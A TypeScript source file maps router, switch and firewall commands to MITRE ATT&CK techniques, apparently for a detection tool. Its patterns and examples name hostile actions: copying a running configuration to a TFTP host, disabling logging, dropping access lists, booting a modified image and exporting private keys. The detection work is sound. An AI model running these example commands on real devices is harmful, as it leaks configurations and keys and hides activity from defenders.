import { entry, type LexiconEntry } from './lexicon-entry.js';

/** Commands on routers, switches and firewalls, with the technique ATT&CK gives them. */
export const networkDevices: LexiconEntry[] = [
  entry('binary', 'show running-config|show startup-config|copy running-config|copy startup-config|show tech-support|write net|show configuration', 'T1602.002:0.9', 'these commands print or copy a network device\'s whole configuration (Network Device Configuration Dump)', 'copy running-config tftp://192.0.2.5/r1.cfg'),
  entry('binary', 'tclsh|configure terminal|conf t|network device cli|cisco ios cli|junos cli', 'T1059.008:0.7', 'device command lines and their Tcl shell run commands on routers and switches (Network Device CLI)', 'configure terminal'),
  entry('binary', 'boot system flash|system image|firmware image|rommon|ios image|patch system image', 'T1601.001:0.6 T1542.004:0.3', 'changing which image a device boots can load a modified operating system (Patch System Image)', 'boot system flash:c2900-modified.bin'),
  entry('binary', 'no logging|logging disabled on|clear logging|no aaa accounting', 'T1562:0.6', 'turning off device logging and accounting hides later commands (Impair Defenses)', 'no logging host 192.0.2.20'),
  entry('binary', 'ip access-list|access-list|acl change|no ip access-group', 'T1562.004:0.4 T1599:0.3', 'changed access lists open paths that the device used to block', 'no ip access-group 101 in'),
  entry('binary', 'monitor capture|span session|monitor session', 'T1040:0.8', 'capture and SPAN sessions copy traffic off a switch (Network Sniffing)', 'monitor capture cap1 start'),
  entry('binary', 'show crypto|crypto key export|crypto pki export', 'T1552.004:0.6', 'exporting device keys and certificates hands over private keys (Private Keys)', 'crypto pki export trustpoint pem terminal'),
];
